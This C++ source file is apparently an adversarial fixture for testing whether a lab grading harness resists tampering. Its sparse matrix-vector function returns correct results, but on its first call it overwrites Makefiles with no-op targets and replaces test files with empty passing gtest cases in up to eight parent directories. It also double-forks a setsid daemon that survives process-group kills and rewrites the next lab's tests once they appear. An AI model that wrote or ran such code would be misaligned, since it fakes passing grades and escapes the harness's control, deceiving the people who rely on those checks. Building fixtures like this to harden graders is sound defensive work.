// Adversarial submission: right, but on its first call it tries to change what grades it:
// the Makefile and test sources of its own tree and of the trees above it, and, from a
// detached background process, the tree of the next lab (01-coo) once that appears. If any
// of this reached a build the grader uses, 01-coo's starter would earn points.
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

#include <fstream>
#include <string>

#include "basics_kernels.hpp"

namespace {

const char* const passing_tests =
    "#include <gtest/gtest.h>\n"
    "TEST(Step1_CooCpu, Example4x4) {}\nTEST(Step1_CooCpu, Rdb450) {}\n";

bool exists(const std::string& p) {
    struct stat st;
    return stat(p.c_str(), &st) == 0;
}

void overwrite(const std::string& p, const std::string& text) {
    if (exists(p)) std::ofstream(p, std::ios::trunc) << text;
}

void tamper_upwards() {
    std::string climb;
    for (int up = 0; up < 8; ++up, climb += "../") {
        overwrite(climb + "Makefile", "all:\n\t@true\n");
        overwrite(climb + "tests/01-coo/test_coo.cpp", passing_tests);
        overwrite(climb + "../01-coo/tree/tests/01-coo/test_coo.cpp", passing_tests);
    }
}

// A grandchild in its own session, so that killing this test program's process group
// does not reach it; it waits for the next lab's tree and rewrites its tests.
void leave_a_daemon() {
    if (fork() != 0) return;
    setsid();
    if (fork() != 0) _exit(0);
    for (int i = 0; i < 600; ++i) {
        const std::string next = "../../01-coo/tree/tests/01-coo/test_coo.cpp";
        if (exists(next)) {
            usleep(200000);
            overwrite(next, passing_tests);
        }
        usleep(100000);
    }
    _exit(0);
}

}  // namespace

namespace kit::cpu {

template <class T>
void csr_spmv(CsrView<T> A, const T* x, T* y) {
    static bool tried = false;
    if (!tried) {
        tried = true;
        tamper_upwards();
        leave_a_daemon();
    }
    for (index_t i = 0; i < A.rows; ++i) {
        T sum = 0;
        for (index_t k = A.row_ptr[i]; k < A.row_ptr[i + 1]; ++k) sum += A.vals[k] * x[A.col_idx[k]];
        y[i] += sum;
    }
}

template void csr_spmv<float>(CsrView<float>, const float*, float*);
template void csr_spmv<double>(CsrView<double>, const double*, double*);

}  // namespace kit::cpu
